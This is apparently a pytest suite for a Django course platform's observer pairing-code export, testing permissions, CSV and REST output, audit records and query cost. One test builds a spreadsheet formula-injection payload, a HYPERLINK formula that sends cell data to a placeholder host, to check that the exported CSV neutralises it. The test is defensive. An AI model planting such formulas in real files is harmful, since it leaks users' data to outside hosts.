"""Codes for all students of a course or an account: who may, for whom, how, and what it costs."""

from __future__ import annotations

import csv
import html
import secrets
from collections.abc import Callable
from datetime import timedelta
from io import StringIO
from typing import Any

import pytest
from django.db import IntegrityError, connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.actor import Actor
from accounts.models import User
from audit.models import Event
from courses.models import Course
from pairing.actions import redeem_code
from pairing.codes import ALPHABET, new_code
from pairing.exports import Scope, export_codes, of_course
from pairing.models import PairingCode
from tests.cast import Cast, enrol, make_account_role, make_admin, make_user
from tests.pairing.surfaces import COURSE_ADMINISTRATION, DETAILS_PAIR, GENERATE, Case

PAIR = [GENERATE, COURSE_ADMINISTRATION]
HEADER = "Last Name,First Name,SIS ID,Pairing Code,Expires At"


def page_of(course: Course) -> str:
    return f"/courses/{course.pk}/observer_pairing_codes"


def text_of(response: Any) -> str:
    return " ".join(html.unescape(response.content.decode()).split())


def export(client: Client, course: Course) -> list[list[str]]:
    """The lines of the file, without its heading."""
    response = client.post(f"{page_of(course)}.csv")
    assert response.status_code == 200
    first, *lines = csv.reader(StringIO(response.getvalue().decode("utf-8-sig")))
    assert ",".join(first) == HEADER
    return lines


@pytest.fixture
def biology(cast: Cast) -> Course:
    return cast.courses.biology


@pytest.fixture
def admin(cast: Cast, signed_in: Callable[[User], Client]) -> Client:
    return signed_in(cast.sub_admin)


# --- The page and the file ---


@pytest.mark.parametrize("case", DETAILS_PAIR, ids=str)
def test_menu_page_and_file_are_there_exactly_for_the_pair(
    cast: Cast, signed_in: Any, biology: Course, case: Case
) -> None:
    client = signed_in(case.arrange(cast))
    menu = client.get(f"/courses/{biology.pk}/users").content.decode()
    page = client.get(page_of(biology))
    file = client.post(f"{page_of(biology)}.csv")
    assert (f'href="{page_of(biology)}"' in menu) is case.allowed
    assert (f'action="{page_of(biology)}.csv"' in page.content.decode()) is case.allowed
    assert {page.status_code, file.status_code} == {200 if case.allowed else 403}
    assert PairingCode.objects.count() == (2 if case.allowed else 0)


def test_a_refusal_says_what_is_missing(cast: Cast, signed_in: Any, biology: Course) -> None:
    said = text_of(signed_in(cast.teacher).get(page_of(biology)))
    assert "To make codes for the students of Biology you need “Users - generate observer" in said
    assert "an administrator of Science can change that" in said
    cast.set(self_registration="none")
    assert "self registration is switched off" in text_of(
        signed_in(cast.sub_admin).get(page_of(biology))
    )


def test_what_a_link_opens_makes_no_code(admin: Client, biology: Course) -> None:
    assert "Make and download 2 codes" in text_of(admin.get(page_of(biology)))
    assert admin.get(f"{page_of(biology)}.csv").headers["Location"] == page_of(biology)
    assert not PairingCode.objects.exists()


def test_the_file_takes_a_token_against_forgery(cast: Cast, biology: Course) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(cast.sub_admin, backend="accounts.signin.TenantBackend")
    assert client.post(f"{page_of(biology)}.csv").status_code == 403
    assert not PairingCode.objects.exists()


def test_the_file_has_a_live_code_of_ours_for_each_student(
    cast: Cast, admin: Client, biology: Course
) -> None:
    ben, ada = export(admin, biology)
    assert ben[:3] == ["Ito", "Ben", ""]
    assert ada[:3] == ["Okafor", "Ada", "s-ada"]
    code = PairingCode.objects.get(student=cast.student)
    assert ada[3][-2:] == code.hint
    assert set(ada[3].replace("-", "", 1)) <= set(ALPHABET)
    assert ada[4] == f"{code.expires_at:%Y-%m-%d %H:%M:%S} UTC"
    done = redeem_code(actor=cast.actor(cast.observer), observer=cast.observer, text=ada[3])
    assert done.student == cast.student


def test_it_is_a_download_that_nobody_keeps(admin: Client, biology: Course) -> None:
    Course.objects.filter(pk=biology.pk).update(course_code='Bio "1"/ñ')
    response = admin.post(f"{page_of(biology)}.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename*=utf-8''Bio_1%C3%B1_Pairing_Codes.csv"
    )
    assert "no-store" in response.headers["Cache-Control"]


def test_sis_ids_are_for_those_who_may_see_them(
    cast: Cast, signed_in: Any, biology: Course
) -> None:
    cast.override("TeacherEnrollment", GENERATE)
    seen = {line[0]: line[2] for line in export(signed_in(cast.teacher), biology)}
    assert seen == {"Ito": "", "Okafor": "s-ada"}
    cast.override("TeacherEnrollment", "read_sis", enabled=False)
    assert {line[2] for line in export(signed_in(cast.teacher), biology)} == {""}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_taken_for_a_formula(
    cast: Cast, signed_in: Any, biology: Course, start: str
) -> None:
    evil = f'{start}HYPERLINK("http://x.example?"&A1)'
    student = make_user(
        cast.root, "Eve", sis_id=evil, sortable_name=f"{evil}, {evil}", short_name="E"
    )
    enrol(cast, student, biology, "StudentEnrollment")
    lines = export(signed_in(cast.root_admin), biology)
    [line] = [line for line in lines if "HYPERLINK" in line[2]]
    assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


@pytest.mark.parametrize("number", ["1234567890", "1234E56789", "123456E890"])
def test_no_code_reads_as_a_number(monkeypatch: pytest.MonkeyPatch, number: str) -> None:
    drawn = iter(f"{number}K7QDM2XR9T")
    monkeypatch.setattr(secrets, "choice", lambda _: next(drawn))
    assert new_code() == "K7QDM2XR9T"


# --- For whom ---


def add_student(cast: Cast, name: str, course: Course, state: str = "active", **more: Any) -> User:
    user = make_user(cast.root, name)
    enrol(cast, user, course, "StudentEnrollment", state, **more)
    return user


def test_whose_place_does_not_count_is_left_out_and_counted(
    cast: Cast, admin: Client, biology: Course
) -> None:
    add_student(cast, "Ines Invited", biology, "invited")
    add_student(cast, "Paula Pulled", biology, activated_at=None)  # made active by nobody's right
    add_student(cast, "Carl Concluded", biology, "completed")
    add_student(cast, "Rita Removed", biology, "deleted")
    add_student(cast, "Dora Declined", biology, "rejected")
    said = text_of(admin.get(page_of(biology)))
    assert "3 students get a new pairing code each" in said.replace("<strong>", "").replace(
        "</strong>", ""
    )
    assert "2 students are left out: they have not accepted their place" in said
    assert [line[0] for line in export(admin, biology)] == ["Concluded", "Ito", "Okafor"]


def test_a_student_in_two_sections_gets_one_code_and_others_get_none(
    cast: Cast, admin: Client, biology: Course
) -> None:
    section = biology.sections.create(root_account=cast.root, name="Second")
    enrolment = cast.enrolment(cast.student, biology)
    enrolment.pk, enrolment.section = None, section
    enrolment.save()
    assert [line[1] for line in export(admin, biology)] == ["Ben", "Ada"]
    assert PairingCode.objects.count() == 2


def test_students_elsewhere_and_deleted_ones_get_none(
    cast: Cast, admin: Client, biology: Course
) -> None:
    User.objects.filter(pk=cast.classmate.pk).update(state="deleted")
    assert [line[1] for line in export(admin, biology)] == ["Ada"]
    assert "left out" not in text_of(admin.get(page_of(biology)))


def test_where_nobody_gets_one_there_is_no_button(
    cast: Cast, admin: Client, biology: Course
) -> None:
    biology.enrolments.filter(type="StudentEnrollment").update(activated_at=None)
    for response in (admin.get(page_of(biology)), admin.post(f"{page_of(biology)}.csv")):
        assert "None of them has accepted their place in it" in text_of(response)
        assert "<form" not in response.content.decode().partition("<main")[2]
    biology.enrolments.filter(type="StudentEnrollment").delete()
    assert "This course has no students yet." in text_of(admin.get(page_of(biology)))


def test_in_a_concluded_course_only_administrators_make_codes(
    cast: Cast, signed_in: Any, biology: Course
) -> None:
    cast.override("TeacherEnrollment", GENERATE)
    Course.objects.filter(pk=biology.pk).update(state="completed")
    assert signed_in(cast.teacher).post(f"{page_of(biology)}.csv").status_code == 403
    assert len(export(signed_in(cast.sub_admin), biology)) == 2


def test_while_acting_both_must_hold_the_pair(cast: Cast, signed_in: Any, biology: Course) -> None:
    client = signed_in(cast.root_admin)
    client.post(f"/users/{cast.teacher.pk}/masquerade")
    assert client.post(f"{page_of(biology)}.csv").status_code == 403
    cast.override("TeacherEnrollment", GENERATE)
    assert len(export(client, biology)) == 2
    both = {"actor": cast.teacher, "real_actor": cast.root_admin}
    assert Event.objects.filter(action="code_issued", **both).count() == 2
    assert {code.issued_by for code in PairingCode.objects.all()} == {cast.root_admin}


# --- What becomes of codes from before ---


def test_each_new_code_is_recorded_with_its_surface_and_course(
    cast: Cast, admin: Client, biology: Course
) -> None:
    export(admin, biology)
    told = Event.objects.filter(action="code_issued").order_by("subject")
    assert [(e.subject, e.data) for e in told] == [
        (student, {"surface": "course_export", "course": biology.pk})
        for student in (cast.student, cast.classmate)
    ]
    assert {(e.actor, e.real_actor, e.address) for e in told} == {
        (cast.sub_admin, cast.sub_admin, "127.0.0.1")
    }
    assert {(c.surface, c.course) for c in PairingCode.objects.all()} == {
        ("course_export", biology)
    }


def test_a_sixth_ends_the_oldest_of_the_same_person_else_of_all(
    cast: Cast, admin: Client, biology: Course
) -> None:
    for _ in range(4):
        cast.code()
    cast.code_by(cast.sub_admin)
    for _ in range(5):
        cast.code(cast.classmate)
    oldest = PairingCode.objects.filter(student=cast.classmate).earliest("pk")
    of_admin = PairingCode.objects.get(issued_by=cast.sub_admin)
    said = text_of(admin.get(page_of(biology)))
    assert "2 students have as many live codes as there can be (5)" in said
    assert "stay good" not in said
    export(admin, biology)
    ended = PairingCode.objects.filter(state="superseded").order_by("pk")
    assert list(ended) == [of_admin, oldest]
    assert {code.ended_at is None for code in ended} == {False}
    told = Event.objects.filter(action="code_superseded").order_by("pk")
    assert {(e.subject_id, e.data["code"]) for e in told} == {
        (cast.student.pk, of_admin.pk),
        (cast.classmate.pk, oldest.pk),
    }
    for student in (cast.student, cast.classmate):
        assert PairingCode.objects.live().filter(student=student).count() == 5


def test_it_says_how_many_codes_end_where_the_limit_has_been_lowered(
    cast: Cast, admin: Client, biology: Course
) -> None:
    for _ in range(4):
        cast.code()
    for _ in range(2):
        cast.code(cast.classmate)
    cast.set(live_codes_per_student=2)
    said = text_of(admin.get(page_of(biology)))
    assert "2 students have as many live codes as there can be (2), or more. 4 codes end:" in said
    export(admin, biology)
    assert PairingCode.objects.filter(state="superseded").count() == 4


def test_expired_codes_make_room_and_are_told_from_superseded_ones(
    cast: Cast, admin: Client, biology: Course
) -> None:
    for _ in range(5):
        cast.code()
    past = timezone.now() - timedelta(seconds=1)
    PairingCode.objects.filter(pk=PairingCode.objects.latest("pk").pk).update(expires_at=past)
    said = text_of(admin.get(page_of(biology)))
    assert "as many live codes" not in said
    assert "Codes from before stay good." in said
    export(admin, biology)
    states = PairingCode.objects.filter(student=cast.student).order_by("pk")
    assert [code.state for code in states] == [*["active"] * 4, "expired", "active"]


def test_all_get_one_or_nobody_does(
    cast: Cast, biology: Course, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two codes alike, which never happens, stop it half-way: what had ended for them lives on."""
    for _ in range(5):
        cast.code()
    number = Event.objects.count()
    monkeypatch.setattr(secrets, "choice", lambda _: "A")
    with pytest.raises(IntegrityError):
        export_codes(actor=cast.actor(cast.sub_admin), scope=of_course(biology))
    assert PairingCode.objects.live().count() == PairingCode.objects.count() == 5
    assert Event.objects.count() == number


def test_who_is_added_meanwhile_gets_none(
    cast: Cast, biology: Course, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Their row is not held: somebody else could be making codes for them at this moment."""
    ask = Scope.receiving

    def receiving(scope: Scope, actor: Actor) -> Any:
        add_student(cast, "Late Comer", biology)
        return ask(scope, actor)

    monkeypatch.setattr(Scope, "receiving", receiving)
    made = export_codes(actor=cast.actor(cast.sub_admin), scope=of_course(biology))
    assert {code.student for code in made.codes} == {cast.student, cast.classmate}
    assert made.left_out == 0


def test_codes_in_a_list_say_that_they_come_from_an_export(
    cast: Cast, admin: Client, signed_in: Any, biology: Course
) -> None:
    export(admin, biology)
    page = text_of(signed_in(cast.student).get("/profile/settings"))
    assert "Made by Hugo Stern" in page
    assert "Export for Biology" in page


# --- REST ---


def for_course(course: Course) -> str:
    return f"/api/v1/courses/{course.pk}/observer_pairing_codes"


def for_account(account: Any) -> str:
    return f"/api/v1/accounts/{account.pk}/observer_pairing_codes"


def test_over_rest_codes_come_with_whose_they_are(cast: Cast, rest: Any, biology: Course) -> None:
    add_student(cast, "Ines Invited", biology, "invited")
    answer = rest(cast.root_admin).post(for_course(biology))
    assert answer.status_code == 200
    body = answer.json()
    assert body["left_out"] == 1
    ben, ada = body["codes"]
    assert ada.keys() == {
        "user_id", "code", "expires_at", "workflow_state", "sortable_name", "sis_user_id"
    }  # fmt: skip
    assert (ada["user_id"], ada["sortable_name"], ada["sis_user_id"], ada["workflow_state"]) == (
        cast.student.pk, "Okafor, Ada", "s-ada", "active"
    )  # fmt: skip
    assert len(ada["code"]) == 10
    assert ben["user_id"] == cast.classmate.pk
    redeem_code(actor=cast.actor(cast.observer), observer=cast.observer, text=ada["code"])


@pytest.mark.parametrize("case", DETAILS_PAIR, ids=str)
def test_over_rest_the_pair_in_the_course_decides(
    cast: Cast, rest: Any, biology: Course, case: Case
) -> None:
    answer = rest(case.arrange(cast)).post(for_course(biology))
    assert answer.status_code == (200 if case.allowed else 403)
    assert PairingCode.objects.count() == (2 if case.allowed else 0)


def test_over_rest_a_refusal_says_what_is_missing_to_who_knows_the_course(
    cast: Cast, rest: Any, biology: Course
) -> None:
    reason = rest(cast.teacher).post(for_course(biology)).json()["reason"]
    context = f"course_{biology.pk}"
    assert reason["missing"] == [{"permission": GENERATE, "context": context}]
    assert "reason" not in rest(cast.elsewhere).post(for_course(biology)).json()
    cast.set(self_registration="none")
    reason = rest(cast.sub_admin).post(for_account(cast.accounts.high)).json()["reason"]
    assert reason == {"missing": [], "setting": "self_registration", "explain_url": None}


def test_names_and_sis_ids_are_for_those_who_may_see_them(
    cast: Cast, rest: Any, biology: Course
) -> None:
    role = make_account_role(cast, "Codes only", GENERATE, COURSE_ADMINISTRATION)
    make_admin(cast, cast.observer, cast.root, role)
    for url in (for_course(biology), for_account(cast.root)):
        codes = rest(cast.observer).post(url).json()["codes"]
        assert {(c["sortable_name"], c["sis_user_id"]) for c in codes} == {(None, None)}


def ids_exported(rest: Any, user: User, account: Any) -> tuple[set[int], int]:
    body = rest(user).post(for_account(account)).json()
    return {code["user_id"] for code in body["codes"]}, body["left_out"]


def test_an_account_s_export_is_for_it_and_all_below_it_once_for_each(
    cast: Cast, rest: Any
) -> None:
    add_student(cast, "Ines Invited", cast.courses.history, "invited")
    both = {cast.student.pk, cast.classmate.pk}
    assert ids_exported(rest, cast.sub_admin, cast.accounts.high) == (both, 1)
    assert ids_exported(rest, cast.root_admin, cast.root) == ({*both, cast.elsewhere.pk}, 1)
    told = Event.objects.filter(action="code_issued").latest("pk")
    assert told.data == {"surface": "account_export", "course": None}


def test_in_an_account_the_pair_is_judged_again_in_each_student_s_course(
    cast: Cast, rest: Any
) -> None:
    """Held in High itself and not below it: Biology and Chemistry are Science's, and what a
    teacher holds in Biology is no administrator's."""
    cast.override("TeacherEnrollment", GENERATE)
    role = cast.roles["High only"] = make_account_role(cast, "High only")
    for key in (GENERATE, COURSE_ADMINISTRATION):
        cast.override("High only", key, account=cast.accounts.high, applies_to_descendants=False)
    make_admin(cast, cast.teacher, cast.accounts.high, role)
    assert ids_exported(rest, cast.teacher, cast.accounts.high) == ({cast.student.pk}, 1)


@pytest.mark.parametrize(("everywhere", "in_high"), [PAIR, PAIR[::-1]])
def test_in_an_account_no_half_of_the_pair_comes_from_a_course_role(
    cast: Cast, rest: Any, everywhere: str, in_high: str
) -> None:
    """Of the half that ends at High, a teacher holds in Biology what is no administrator's."""
    cast.override("TeacherEnrollment", in_high)
    role = cast.roles["Half below"] = make_account_role(cast, "Half below", everywhere)
    cast.override("Half below", in_high, account=cast.accounts.high, applies_to_descendants=False)
    make_admin(cast, cast.teacher, cast.accounts.high, role)
    assert ids_exported(rest, cast.teacher, cast.accounts.high) == ({cast.student.pk}, 1)


def test_in_an_account_course_roles_count_for_nothing(cast: Cast, rest: Any) -> None:
    """A teacher with the pair in Biology who administers, without it, all of High."""
    cast.override("TeacherEnrollment", GENERATE)
    make_admin(cast, cast.teacher, cast.accounts.high, make_account_role(cast, "Clerk", GENERATE))
    assert rest(cast.teacher).post(for_account(cast.accounts.high)).status_code == 403


@pytest.mark.parametrize("pair", [PAIR, PAIR[::-1]])
def test_one_of_the_pair_is_not_enough_for_an_account(
    cast: Cast, rest: Any, pair: list[str]
) -> None:
    statuses = []
    for key in pair:
        make_admin(cast, cast.observer, cast.root, make_account_role(cast, key, key))
        statuses.append(rest(cast.observer).post(for_account(cast.root)).status_code)
    assert statuses == [403, 200]


# --- Cost ---


def statements(make: Callable[[], Any]) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert make().status_code == 200
    return len(captured)


def test_the_number_of_statements_does_not_grow_with_the_students(
    cast: Cast, admin: Client, rest: Any, biology: Course
) -> None:
    client, few = rest(cast.sub_admin), {}
    doors: dict[str, Callable[[], Any]] = {
        "page": lambda: admin.get(page_of(biology)),
        "file": lambda: admin.post(f"{page_of(biology)}.csv"),
        "course": lambda: client.post(for_course(biology)),
        "account": lambda: client.post(for_account(cast.accounts.science)),
    }
    for _ in range(5):
        cast.code()
    for door, ask in doors.items():
        ask()
        few[door] = statements(ask)
    for n in range(120):
        add_student(cast, f"Student {n}", biology)
    for door, ask in doors.items():
        cast.set(live_codes_per_student=5)
        ask()
        cast.set(live_codes_per_student=1)  # of each student one code ends
        ask()
        assert statements(ask) <= few[door] <= 22, door
